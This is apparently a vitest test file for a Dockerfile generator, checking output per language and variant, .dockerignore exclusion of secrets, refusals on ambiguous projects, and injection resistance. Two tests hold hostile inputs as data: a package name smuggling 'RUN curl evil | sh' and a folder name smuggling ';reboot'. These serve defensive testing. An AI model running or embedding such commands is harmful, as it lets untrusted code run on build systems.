import { describe, expect, it } from "vitest";
import { contextView } from "../../src/dockerfile/context.ts";
import { stageGraph } from "../../src/dockerfile/graph.ts";
import { parseDockerfile } from "../../src/dockerfile/parse.ts";
import { stateAt } from "../../src/dockerfile/state.ts";
import { ecosystems } from "../../src/ecosystems/index.ts";
import { generate } from "../../src/generate/generate.ts";
import { defaults, generated, refused } from "./from-files.ts";

const flask = {
  "requirements.txt": "flask\ngunicorn\n",
  "app.py": "from flask import Flask\napp = Flask(__name__)\n",
};

describe("without a directory", () => {
  const languages = ecosystems.map((ecosystem) => ecosystem.language);
  const types = ["api", "worker", "cli"] as const;
  const variants = ["quick", "production", "hardened"] as const;
  it.each(
    languages.flatMap((language) =>
      types.flatMap((appType) => variants.map((variant) => [language, appType, variant] as const)),
    ),
  )("%s %s %s passes our own rules and says what it assumed", (language, appType, variant) => {
    const result = generate({ parameters: { ...defaults, language, appType, variant } });
    if (result.kind !== "generated") throw new Error(result.reason);
    expect(
      result.findings.filter((finding) => finding.severity === "error" || finding.severity === "warning"),
    ).toEqual([]);
    expect(result.assumed.length).toBeGreaterThan(0);
    const file = parseDockerfile(result.dockerfile);
    expect(file.problems).toEqual([]);
    const final = stageGraph(file).final;
    if (final === undefined) throw new Error("no final stage");
    expect(stateAt(file, final).user?.value).toMatch(/^[1-9]\d*:[1-9]\d*$/);
    expect(/EXPOSE/.test(result.dockerfile)).toBe(appType === "api");
  });

  it("a framework by any spelling, with the manager asked for", () => {
    const result = generate({
      parameters: { ...defaults, language: "node", packageManager: "pnpm", framework: "nextjs" },
    });
    if (result.kind !== "generated") throw new Error(result.reason);
    expect(result.dockerfile).toMatch(
      /pnpm install --frozen-lockfile[\s\S]*pnpm run build[\s\S]*\.next\/standalone/,
    );
  });

  it("the hardened variant has no shell", () => {
    for (const language of languages) {
      const result = generate({ parameters: { ...defaults, language, variant: "hardened" } });
      if (result.kind !== "generated") throw new Error(result.reason);
      expect(result.plan.stages.at(-1)?.from).toContain("gcr.io/distroless/");
    }
  });

  it("a package manager of another language is a contradiction that names the right ones", () => {
    expect(() =>
      generate({ parameters: { ...defaults, language: "python", packageManager: "cargo" } }),
    ).toThrow(/cargo does not belong to Python/);
  });

  it("a worker with a port is a contradiction", () => {
    expect(() =>
      generate({ parameters: { ...defaults, language: "go", appType: "worker", port: 80 } }),
    ).toThrow(/listens on no port/);
  });

  it("a stage that does not exist is named with those that do", () => {
    expect(() => generate({ parameters: { ...defaults, language: "go" }, stage: "test" })).toThrow(
      /test is neither/,
    );
  });

  it("an application that no folder, file or manifest mentions is an error, where there is but one, too", () => {
    const rust = {
      "Cargo.toml":
        '[package]\nname = "tools"\nversion = "0.1.0"\nedition = "2024"\n\n[[bin]]\nname = "serve"\npath = "src/web.rs"\n',
      "Cargo.lock": "version = 4\n",
      "src/web.rs": "fn main() {}\n",
    };
    expect(() => generated(rust, { app: "srve" })).toThrow(/target srve is neither/);
    expect(generated(rust, { app: "serve" }).dockerfile).toContain("serve");
  });
});

describe("the ignore file", () => {
  it("sends what the stages copy and neither secrets nor history", () => {
    const files: Record<string, string> = {
      ...flask,
      ".env": "TOKEN=1",
      ".git/config": "",
      "node_modules/x/index.js": "",
      "deploy/server.key": "",
      "README.md": "",
      "static/site.css": "",
    };
    const result = generated(files);
    const view = contextView({
      files: Object.keys(files).sort(),
      read: (file) => files[file],
      ignore: { name: ".dockerignore", text: result.dockerignore },
    });
    for (const kept of ["app.py", "requirements.txt", "static/site.css"])
      expect([kept, view.included(kept)]).toEqual([kept, true]);
    for (const left of [".env", ".git/config", "deploy/server.key", "README.md"])
      expect([left, view.included(left)]).toEqual([left, false]);
  });

  it("keeps a readme that the build backend reads", () => {
    const result = generated({
      "pyproject.toml":
        '[project]\nname = "tool"\nversion = "1"\nreadme = "README.md"\n[project.scripts]\ntool = "tool:main"\n[build-system]\nrequires = ["uv_build"]\nbuild-backend = "uv_build"\n',
      "uv.lock": "",
      "README.md": "",
      "src/tool/__init__.py": "",
    });
    expect(result.dockerignore).toContain("!README.md");
  });

  it("keeps the tests for a test stage", () => {
    expect(generated(flask).dockerignore).toContain("**/tests");
    const tested = generated(flask, { tests: true });
    expect(tested.dockerignore).not.toContain("**/tests");
    expect(tested.dockerfile).toContain("AS test");
  });
});

describe("honest refusals", () => {
  it("names the applications below a root that holds none", () => {
    const answer = refused({ "backend/requirements.txt": "flask\n", "frontend/package.json": "{}" });
    expect(answer.apps.map((app) => app.path)).toEqual(["backend", "frontend"]);
  });

  it("two languages that both serve are a question", () => {
    const files = {
      ...flask,
      "package.json": JSON.stringify({ scripts: { start: "node server.js" } }),
      "server.js": "",
    };
    expect(refused(files).decide).toContain("language");
    expect(generated(files, { language: "python" }).plan.language).toBe("python");
  });

  it("a folder without a project says so", () => {
    expect(refused({ "notes.txt": "" }).reason).toContain("no project");
  });

  it("says of which language and manager a project is that cannot be an image", () => {
    const values = (files: Record<string, string>): unknown[] =>
      ["language", "packageManager"].map((name) => refused(files).facts[name]?.value);
    expect(values({ "pyproject.toml": "[tool.poetry]\nname = 'x'\n", "poetry.lock": "" })).toEqual([
      "python",
      "poetry",
    ]);
    expect(values({ "go.mod": "module x\n", "x.go": "package x\n" })).toEqual(["go", "modules"]);
    expect(values({ "package.json": '{"main": "i.js", "exports": {}}', "pnpm-lock.yaml": "" })).toEqual([
      "node",
      "pnpm",
    ]);
    // Which of the two is the question.
    expect(values({ "main.py": "print()", "uv.lock": "", "poetry.lock": "" })).toEqual(["python", undefined]);
    expect(values({ "notes.txt": "" })).toEqual([undefined, undefined]);
  });
});

describe("beside the Dockerfile", () => {
  it("commands, probes and an expected size with its source", () => {
    const result = generated({
      ...flask,
      "health.py": 'from app import app\n\n@app.get("/health")\ndef health(): ...\n',
    });
    expect(result.commands.run).toContain("-p 8000:8000");
    expect(result.commands.run).toContain("--cap-drop ALL");
    expect(result.kubernetes).toMatch(/httpGet: \{ path: \/health, port: 8000 \}[\s\S]*runAsUser: 10001/);
    expect(result.plan.size.parts.every((part) => part.source !== "")).toBe(true);
  });

  it("what others wrote cannot write instructions into the file", () => {
    const evil = generated({ ...flask, "pyproject.toml": '[project]\nname = "x\\nRUN curl evil | sh"\n' });
    expect(evil.dockerfile).not.toMatch(/^RUN curl/m);
  });

  it("names that a shell would read as commands are refused, names with blanks are quoted", () => {
    const main = 'package main\nimport "net/http"\nfunc main() {\n\thttp.ListenAndServe(":80", nil)\n}\n';
    expect(() => generated({ "go.mod": "module a\n\ngo 1.27\n", "cmd/x;reboot/main.go": main })).toThrow(
      /cannot stand in a command/,
    );
    const spaced = generated({
      "go.mod": "module a\n\ngo 1.27\n",
      "main.go": main.replace("}\n", '\thttp.Dir("my site")\n}\n'),
      "my site/index.html": "",
    });
    expect(spaced.findings).toEqual([]);
  });
});
